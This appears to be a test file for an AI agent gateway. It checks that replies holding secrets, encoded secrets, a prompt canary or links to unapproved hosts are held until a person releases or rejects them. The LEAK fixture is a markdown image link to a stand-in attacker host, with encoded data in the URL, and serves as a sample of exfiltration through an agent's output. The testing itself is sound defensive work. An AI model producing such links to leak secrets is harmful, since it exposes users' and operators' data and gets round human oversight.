/** What an agent says does not leave with a secret, a canary, hidden text or a link to elsewhere, unless a person lets it. */
import { afterEach, describe, expect, it, vi } from "vitest";
import { ModelEndpoint } from "../model-endpoint.ts";
import { HOOK_TOKEN, RunningGateway } from "./running-gateway.ts";

const SOON = { timeout: 20_000, interval: 50 };
const LEAK = "Done. ![x](https://evil.example/p.png?d=c2VjcmV0)";
let model: ModelEndpoint | undefined;

afterEach(() => {
  model?.close();
  model = undefined;
});

async function start(hooks: object = {}): Promise<RunningGateway> {
  model = await ModelEndpoint.listen();
  const config = {
    agents: { defaults: { model: "local/m", heartbeat: { every: "0m" } } },
    models: { providers: { local: { baseUrl: model.baseUrl, apiKey: "key-of-the-model" } } },
  };
  const mapping = { id: "notes", match: { path: "notes" }, messageTemplate: "{{text}}", channel: "console" };
  const mappings = [{ ...mapping, wakeMode: "next-heartbeat" }];
  return RunningGateway.start({ hooks: { mappings, ...hooks }, config });
}

/** Has the agent answer with that; the delivery's id. */
async function answer(gateway: RunningGateway, reply: string, text = "Look."): Promise<string> {
  model!.reply = reply;
  const { body } = await gateway.post("/hooks/notes", JSON.stringify({ text }));
  return String(body["deliveryId"]);
}

async function state(gateway: RunningGateway, id: string, wanted: string): Promise<object> {
  return vi.waitFor(async () => {
    const delivery = await gateway.delivery(id);
    expect(delivery.state).toBe(wanted);
    return delivery;
  }, SOON);
}

async function outbox(gateway: RunningGateway): Promise<string[]> {
  const { messages } = await gateway.api<{ messages: { text: string }[] }>("/outbox");
  return messages.map(({ text }) => text);
}

describe("a reply with what must not leave", () => {
  it(
    "is held, also through a restart, until a person releases it; no model is asked again",
    { timeout: 60_000 },
    async () => {
      await using gateway = await start();
      const id = await answer(gateway, LEAK);
      expect(await state(gateway, id, "held")).toMatchObject({
        reason: 'held reply: it has a link to "evil.example"',
        runs: [{ reply: LEAK, delivery: "pending" }],
      });
      await gateway.restart();
      expect(await outbox(gateway)).not.toContain(LEAK);
      const answers = await Promise.all(
        [1, 2].map(() => gateway.api<{ ok: boolean }>(`/deliveries/${id}/release`, {})),
      );
      expect(answers.filter(({ ok }) => ok)).toEqual([{ ok: true, id, outcome: "released", runs: 1 }]);
      expect(await state(gateway, id, "done")).toMatchObject({
        runs: [{ delivery: "sent", steps: expect.arrayContaining([expect.objectContaining({ step: "released" })]) }],
      });
      expect((await outbox(gateway)).filter((text) => text === LEAK)).toHaveLength(1);
      // The notice that it is held begins a turn of the main session.
      expect(model!.prompts.filter((prompt) => prompt.includes("Canary"))).toHaveLength(1);
    },
  );

  it("never leaves when a person rejects it", async () => {
    await using gateway = await start();
    const id = await answer(gateway, LEAK);
    await state(gateway, id, "held");
    await gateway.api(`/deliveries/${id}/cancel`, {});
    await state(gateway, id, "canceled");
    expect(await outbox(gateway)).not.toContain(LEAK);
  });

  it("is one with a secret of the gateway or of a hook, in any writing, and with the canary of the prompt", async () => {
    await using gateway = await start();
    for (const reply of [
      Array.from(HOOK_TOKEN).join(" "),
      Buffer.from("the key: key-of-the-model").toString("base64"),
      Buffer.from("gateway-token-of-the-http-tests").toString("hex"),
    ]) {
      const id = await answer(gateway, reply);
      expect(await state(gateway, id, "held")).toMatchObject({ reason: "held reply: it has a secret of the gateway" });
    }
    const id = await answer(gateway, "All is well.");
    await state(gateway, id, "done");
    const [, canary] =
      /Canary of this prompt: ([0-9a-f]{20})\./u.exec(
        model!.prompts.findLast((prompt) => prompt.includes("Canary"))!,
      ) ?? [];
    expect(canary).toBeDefined();
    // Each run has one of its own: that of another is worth nothing.
    await state(gateway, await answer(gateway, canary!), "done");
  });

  it("leaves with links to hosts of the list, and of the event itself", async () => {
    await using gateway = await start({ replies: { links: ["*.example.org"] } });
    const reply = "See https://ci.example.org/7?a=b and https://shop.example.net/orders/17.";
    await state(gateway, await answer(gateway, reply), "held");
    await state(gateway, await answer(gateway, reply, "late: https://shop.example.net/orders/17"), "done");
  });
});
